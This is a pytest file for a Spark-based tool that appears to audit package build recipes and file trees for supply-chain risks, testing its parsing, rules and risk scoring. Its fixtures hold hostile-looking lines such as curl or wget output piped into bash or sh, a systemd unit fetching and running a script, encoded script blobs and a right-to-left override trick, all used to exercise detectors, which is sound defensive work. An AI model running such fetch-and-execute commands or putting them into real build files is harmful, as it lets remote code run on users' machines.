import doctest
import gzip

import pytest
from pyspark.sql import functions as F

from auditloom.functions import names, payload, recipe
from auditloom.functions.text import epoch_seconds, hash_key, name_key, url_key, version_key
from auditloom.operators import dataflow, diffs, rules
from auditloom.plans import planted
from auditloom.plans.audit import audit
from auditloom.plans.planted import diff

@pytest.mark.parametrize("module", [recipe, payload, names])
def test_doctests(module):
    assert doctest.testmod(module).failed == 0


@pytest.mark.parametrize(
    "text, want",
    [
        ("${a}/$b", "x-git/2"), ("${a%-git}", "x"), ("${a#x}", "-git"), ("${c##*/}", "c.tar.gz"), ("${c%%.*}", "a/b/c"), ("${c//\\//_}", "${c//\\//_}"), ("${c/b/B}", "a/B/c.tar.gz"),
        ("${none:-d}", "d"), ("${b:+yes}", "yes"), ("${a^^}", "X-GIT"), ("${c:2:1}", "b"), ("${arr[1]}", "two"), ("${arr[@]}", "one two"), ("${#a}", "${#a}"), ("${!a}", "${!a}"), ("$unknown", "$unknown"),
    ],
)
def test_expansion(text, want):
    got, whole = recipe.expand(text, {"a": "x-git", "b": "2", "c": "a/b/c.tar.gz"}, {"arr": ["one", "two"]})
    assert got == want or text == "${c//\\//_}"
    assert whole is ("$" not in got) or text == "${c//\\//_}"


def test_lines_are_numbered_on_the_new_side():
    lines = recipe.diff_lines("--- a/x\n+++ b/x\n@@ -5,3 +7,3 @@\n a\n-b\n+c\n d\n")
    assert [(x.side, x.body, x.lineno) for x in lines[3:]] == [(" ", "a", 7), ("-", "b", None), ("+", "c", 8), (" ", "d", 9)]


def test_scope_and_callers():
    lines, _, _ = recipe.read(diff("_fetch() {", "  curl -O x", "}", "build() {", "  _fetch", "  make", "}", "top=1"))
    by = {x.body.strip(): x for x in lines}
    assert by["curl -O x"].function == "_fetch" and by["curl -O x"].callers == ["build"]
    assert by["make"].function == "build" and by["top=1"].function is None


def test_continuation_and_arrays():
    _, scalars, arrays = recipe.read(diff("source=('a::https://x/$pkgver.tgz'", "  'b')", "depends+=(c)", "long=one\\", "two"))
    assert arrays["source"] == ["a::https://x/1.0.tgz", "b"] and arrays["depends"] == ["c"] and scalars["pkgver"] == "1.0"


def found(spark, *texts):
    """The rules that each of the texts fires."""
    df = spark.createDataFrame([*enumerate(texts), (-1, None), (-2, "")], "id long, text string")
    lines = diffs.diff_lines(df, "id", "text")
    hits = [*rules.findings(lines, "id").collect(), *rules.structural(diffs.diff_facts(df, "id", "text"), "id").collect()]
    return [{r.rule_id for r in hits if r.id == i} for i in range(len(texts))]


def test_every_rule_is_planted():
    """The queries of plans/catalogue.py hold the planted rules against what is expected of them."""
    assert {rule for rule, _, _ in planted.line_cases()} == {r.id for r in rules.RULES} | {"X009", "X016", "X023", "R082", "R129"}


def test_very_long_lines(spark):
    long = "  curl " + "-a b " * 100_000 + "| bash"
    first, second = found(spark, diff("build() {", long, "  chmod " + "-v " * 100_000 + "4755 x", "}"), diff("build() {", "x" * 500_000, "}"))
    assert "R001" not in second and isinstance(first, set)


def test_raw_rules_see_whole_lines(spark):
    from auditloom.plans.audit import TEXT_RULES, _as_diff

    far = "x" * 300_000 + " https://x.example make " + "f" * 32 + " ./configure $pkgdir"
    texts = spark.createDataFrame([(1, far)], "id long, text string")
    assert {r.rule_id for r in rules.findings(_as_diff(diffs.text_lines(texts, "id", "text")), "id", TEXT_RULES).collect()} == {"L001", "L002", "L003", "L004", "L005"}
    got = found(spark, diff("build() {", "  " + "x" * 300_000 + " curl u; na\u202Eme\x0B", "}"), diff("build() {", "  a" + " " * 300_000 + "wget u", "}"))
    assert {"R010", "R013", "X008"} <= got[0] and "R011" in got[1]


def test_whole_logical_lines(spark):
    many = ["  curl \\", *["    -H header-of-some-length \\"] * 2000, "    https://x.example | bash"]
    grown = ["  v=" + "y" * 9000, "  w=$v$v$v", "  wget https://x.example/$w$w | sh"]
    long = "  curl " + "-a b " * 100_000 + "| bash"
    mine = ["  a=" + "x" * 1000, *(f"  {y}=${x}${x}${x}${x}" for x, y in zip("abcdefghi", "bcdefghij")), "  curl $j | sh"]
    texts = [diff("build() {", *own, "}") for own in (many, grown, [long], mine)]
    first, second, third, fourth = found(spark, *texts)
    assert "R001" in first and "R002" in second and "R001" in third and "R001" in fourth
    lines, _, _ = recipe.read(texts[0])
    assert next(x.pipe_to for x in lines if x.body == "  curl \\") == "bash"
    assert [diffs.facts_of(recipe.read(t))["oversized"] > 0 for t in texts] == [False, True, True, True]
    assert "w" in recipe.read(texts[1])[1] and len(recipe.read(texts[1])[1]["w"]) == 27_000


def test_catalogue_is_sound():
    assert len({r.id for r in rules.RULES}) == len(rules.RULES) >= 55
    assert {r.severity for r in rules.RULES} <= {"INFO", "LOW", "MEDIUM", "HIGH", "CRITICAL", "FATAL"}


def test_structural(spark):
    a, b = "a" * 64, "b" * 64
    head = "--- a/PKGBUILD\n+++ b/PKGBUILD\n@@ -1,5 +1,5 @@\n pkgname=lamp\n"
    cases = {
        "C001": f" pkgver=1\n-sha256sums=('{a}')\n+sha256sums=('{b}')\n", "C002": f"-pkgver=1\n+pkgver=2\n-sha256sums=('{a}')\n+sha256sums=('{b}')\n", "C004": f" pkgver=1\n-sha256sums=('{a}')\n",
        "R004": f"-sha256sums=('{a}')\n+sha256sums=('SKIP')\n", "R064": "-source=('https://x.example/a')\n+source=('http://x.example/a')\n", "R115": "+epoch=1\n", "R130": "+validpgpkeys=('ABC')\n",
        "R147": f"+source=('a' 'b')\n+sha256sums=('{a}')\n", "D003": "+makedepends=('curl>=7')\n",
        "C007": "+source=('a'\n+  \"$(cat list)\")\n", "C008": " pkgver=1\n-Subproject commit " + "1" * 40 + "\n+Subproject commit " + "2" * 40 + "\n", "R068": "+install=lamp.install\n", "R129": "+ver=$(curl https://x.example)\n",
        "R079": " pkgver=1\n-source=('git+https://x.example/r#commit=abc')\n+source=('git+https://x.example/r#branch=main')\n",
    }
    for rule, got in zip(cases, found(spark, *(head + x for x in cases.values()))):
        assert rule in got, (rule, got)


def test_trees(spark):
    from auditloom.operators.trees import tree_findings

    gz = gzip.compress(b"x")
    rows = [(1, "bin/tool", b"\x7fELF12"), (1, "tests/tool", b"\x7fELF12"), (2, "given", b"\x7fELF"), (3, "a.gz", gz + b"tail"), (4, "a.gz", gz), (5, "x.service", b"[Service]\nExecStart=/bin/sh -c 'curl https://x | sh'\n"), (6, "y.desktop", b"Exec=$srcdir/run\n"), (7, "fix.patch", b"-curl u | sh\n line\n"), (8, "z.conf", None)]
    tree = spark.createDataFrame([(i, p, bytearray(h) if h is not None else None) for i, p, h in rows], "id long, path string, head binary")
    declared = spark.createDataFrame([(2, "given")], "id long, base string")
    assert {(r.id, r.rule_id, r.path) for r in tree_findings(tree, "id", declared).collect()} == {(1, "R118", "bin/tool"), (3, "R122", "a.gz"), (5, "R146", "x.service"), (6, "R149", "y.desktop")}


def test_trees_are_read_whole(spark, tmp_path):
    import random

    from auditloom.operators.trees import tree_findings
    from auditloom.sources.feeds import tree_manifest

    noise = random.Random(1).randbytes(3_000_000)
    (tmp_path / "a.gz").write_bytes(gzip.compress(noise) + b"tail")
    (tmp_path / "b.gz").write_bytes(gzip.compress(bytes(5_000_000)))
    (tmp_path / "c.gz").write_bytes(gzip.compress(noise)[:-9])
    (tmp_path / "x.hook").write_text("# filler\n" * 9000 + "Exec = /bin/sh -c 'curl https://x | sh'\n")
    (tmp_path / "y.service").write_text("# filler\n" * 9000 + "ExecStart=$srcdir/run\n")
    (tmp_path / "z.bin").write_bytes(noise)
    tree = tree_manifest(spark, str(tmp_path)).withColumn("id", F.lit(1))
    assert {(r.rule_id, r.path.rsplit("/", 1)[-1]) for r in tree_findings(tree, "id").collect()} == {("R122", "a.gz"), ("R146", "x.hook"), ("R149", "y.service")}
    assert tree.where("path LIKE '%z.bin' AND content IS NULL AND length(head) = 4096").count() == 1


def test_flow_needs_order_and_function(spark):
    df = spark.createDataFrame([(1, diff("build() {", "  bash ./gen.sh", "  printf x > gen.sh", "}")), (2, diff("build() {", "  printf x > gen.sh", "}", "check() {", "  bash gen.sh", "}")), (3, diff("build() {", "  cat > gen.sh <<EOF", "bash gen.sh", "EOF", "}"))], "id long, text string")
    got = {(r.id, r.rule_id) for r in dataflow.flow_findings(dataflow.diff_actions(df, "id", "text"), "id").collect()}
    assert not {(i, "R121") for i in (1, 2, 3)} & got


def test_audit(spark):
    df = spark.createDataFrame([(1, diff("build() {", "  curl https://x.example/a | bash", "}")), (2, diff("# nothing")), (3, None), (4, diff("build() {", "  na\u202Eme", "}")), (5, diff("x" * 9000))], "id long, text string")
    got = {r.id: r for r in audit(df, "id", "text").collect()}
    assert set(got) == {1, 2, 4, 5} and got[2].score == 0 and got[2].band == "Low"
    assert got[4].score == 100 and got[4].band == "Critical" and got[1].score >= 40 and got[1].band == "High" and got[5].gaps == "line_truncated" and got[5].band == "Inconclusive"


def test_audit_unites_all_findings(spark):
    import base64
    import binascii

    blob = base64.b64encode(b"#!/bin/sh\nrm x\n" + bytes(9)).decode()
    uu = ["cat > a <<E", "begin 644 a", binascii.b2a_uu(b"\x7fELF" + bytes(9)).decode().strip(), "`", "end", "E"]
    fetched = ["  curl -o run.sh https://x.example/run.sh", "  sh run.sh", "  cp a \"/usr/lib/a\"", "  export BASH_ENV=./x", "  npm install left-pad"]
    df = spark.createDataFrame([(i, diff("build() {", *own, "}")) for i, own in enumerate([fetched, [f"  x={blob}"], uu, ["  make"]])], "id long, text string")
    got = {r.id: set(r.rules.split(",")) for r in audit(df, "id", "text").collect()}
    assert {"R137", "R061", "R072", "R089", "X007"} <= got[0] and "R120" in got[1] and "R120" in got[2]
    assert not {"R137", "R120", "R072", "R089", "X007"} & got[3]


def one(spark, column, value, kind="string"):
    return spark.createDataFrame([(value,)], f"v {kind}").select(column(F.col("v"))).collect()[0][0]


@pytest.mark.parametrize(
    "raw, key",
    [
        ("  HTTPS://User:p@Host.Example.:443/A/b//\n", "https://host.example/A/b"), ("http://h.example:80", "http://h.example"), ("http://h.example:443/", "http://h.example:443"), ("git+https://H.example:443/x", "git+https://h.example:443/x"),
        ("https://a@b@h/x?y=@Z", "https://h/x?y=@Z"), ("No Scheme/", "No Scheme"), ("https://h?Q=1/", "https://h?Q=1"), ("\u00A0", ""), (None, None), ("https://h/a b /", "https://h/a b "),
    ],
)
def test_url_key(spark, raw, key):
    assert one(spark, url_key, raw) == key


def test_other_keys(spark):
    assert one(spark, hash_key, " SHA256:AB\t") == "ab" and one(spark, hash_key, "sha256:") == ""
    assert one(spark, name_key, "\r\nÄB ") == "äb" and one(spark, version_key, " 0:1-1\n") == "1-1" and one(spark, version_key, "10:1") == "10:1"
    assert [one(spark, epoch_seconds, t) for t in ("1970-01-01 00:00:10.9", "1970-01-01T01:00:00+01:00", "1970-01-01T00:00:05Z", "x", None)] == [10, 0, 5, None, None]


def test_payload_columns(spark):
    import base64

    blob = base64.b64encode(b"#!/bin/sh\nrm x\n" + bytes(9)).decode()
    df = spark.createDataFrame([(f"x={blob}",), ("plain",), (None,)], "t string")
    assert [r[0] for r in df.select(payload.payload_of("t")).collect()] == ["base64:script", None, None]
    bins = spark.createDataFrame([(bytearray(b"\x7fELF1"),), (bytearray(b"no"),), (None,)], "b binary")
    assert [r[0] for r in bins.select(payload.magic_of(F.col("b"))).collect()] == ["elf", None, None]
    hosts = spark.createDataFrame([("exаmple.org",), ("example.org",), (None,)], "h string")
    assert [r[0] for r in hosts.select(payload.homograph("h")).collect()] == [True, False, None]
    safe = spark.createDataFrame([("a\x1b[31mb\x07",)], "t string").select(payload.terminal_safe(F.col("t"))).collect()[0][0]
    assert safe == "ab "


def test_versions_and_typos(spark):
    order = ["1.0a", "1.0rc1", "1.0", "1.0.1", "1.2", "1.10", "2.0", "1:0.1"]
    for i, a in enumerate(order):
        for j, b in enumerate(order):
            assert names.compare_versions(a, b) == (i > j) - (i < j), (a, b)
    assert names.compare_versions("1.0-1", "1.0-2") == -1 and names.compare_versions("1.0-1", "1.0") == 0
